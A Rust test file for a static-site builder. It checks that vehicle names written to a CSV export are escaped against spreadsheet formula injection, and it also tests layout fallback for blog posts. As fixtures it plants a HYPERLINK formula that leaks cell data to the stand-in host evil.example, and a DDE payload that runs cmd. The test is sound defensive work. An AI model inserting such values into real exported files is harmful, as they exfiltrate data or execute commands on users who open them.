//! What the site publishes from text it does not control: vehicle names in `sessions.csv`
//! (spreadsheet formulas), and a post's `layout` (which used to fail the whole build).

use std::fs;
use std::path::{Path, PathBuf};

use crate::common::{Demo, cph50};

fn repo(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(rel)
}

fn build(demo: &Demo, blog: &Path) -> assert_cmd::assert::Assert {
    cph50(demo.root())
        .args(["build", "--out", "site", "--templates"])
        .arg(repo("templates"))
        .arg("--blog")
        .arg(blog)
        .assert()
}

fn read(demo: &Demo, rel: &str) -> String {
    fs::read_to_string(demo.root().join("site").join(rel)).unwrap()
}

#[test]
fn csv_cells_that_spreadsheets_would_run_are_neutralised() {
    let demo = Demo::new(1);
    let config = demo.data().join("vehicle_config.json");
    demo.edit(
        &config,
        "\"Serenity\"",
        r#""=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")""#,
    );
    demo.edit(&config, "\"Freya\"", r#""@SUM(1+1)*cmd|' /C calc'!A0""#);
    build(&demo, &repo("blog")).success();
    let csv = read(&demo, "data/sessions.csv");
    let rows: Vec<&str> = csv.split_terminator("\r\n").collect();
    assert!(rows.len() > 2, "{csv}");
    let equinox = rows
        .iter()
        .find(|r| r.contains("serenity_equinox_2024"))
        .unwrap();
    assert!(
        equinox.contains(
            r#",serenity_equinox_2024,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")","#
        ),
        "{equinox}"
    );
    let xc40 = rows.iter().find(|r| r.contains("volvo_xc40_2021")).unwrap();
    assert!(
        xc40.contains(",volvo_xc40_2021,'@SUM(1+1)*cmd|' /C calc'!A0,"),
        "{xc40}"
    );
    // every text cell that starts like a formula carries the quote; numbers are numbers
    for row in &rows[1..] {
        for cell in row.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{row}");
            if cell.starts_with('-') {
                assert!(cell.parse::<f64>().is_ok(), "{row}");
            }
        }
    }
    // the JSON export keeps the names as they are: JSON is not run by spreadsheets
    assert!(read(&demo, "api/v1/sessions.json").contains(r#""vehicle_name":"=HYPERLINK("#));
}

#[test]
fn ordinary_names_leave_the_csv_as_it_was() {
    // the committed site was built from the committed data: its CSV must not change
    let demo = tempfile::tempdir().unwrap();
    cph50(demo.path())
        .args(["--data"])
        .arg(repo("data"))
        .args(["build", "--out", "site", "--templates"])
        .arg(repo("templates"))
        .arg("--blog")
        .arg(repo("blog"))
        .assert()
        .success();
    let built = fs::read(demo.path().join("site/data/sessions.csv")).unwrap();
    assert!(built == fs::read(repo("site/data/sessions.csv")).unwrap());
}

#[test]
fn an_unknown_post_layout_falls_back_with_a_warning() {
    let demo = Demo::new(1);
    let blog = repo("tests/fixtures/blog_layout");
    let out = build(&demo, &blog).success().get_output().stderr.clone();
    let err = String::from_utf8_lossy(&out);
    let warnings: Vec<&str> = err.lines().filter(|l| l.contains("WARN")).collect();
    assert_eq!(warnings.len(), 1, "{err}");
    assert!(
        warnings[0].ends_with(
            "blog_layout/_posts/2026-02-04-layout.md: layout \"index\" is not a post layout; rendered with post.html"
        ),
        "{err}"
    );
    let page = read(&demo, "blog/2026/02/04/layout.html");
    assert!(page.contains("<p>layout body</p>"), "{page}");
    assert!(page.contains("<h1>Layout trick</h1>"), "{page}");
    // `layout: post` (the fixture blog) warns about nothing
    let out = build(&demo, &repo("tests/fixtures/blog_ok"))
        .success()
        .get_output()
        .stderr
        .clone();
    assert!(!String::from_utf8_lossy(&out).contains("WARN"));
}
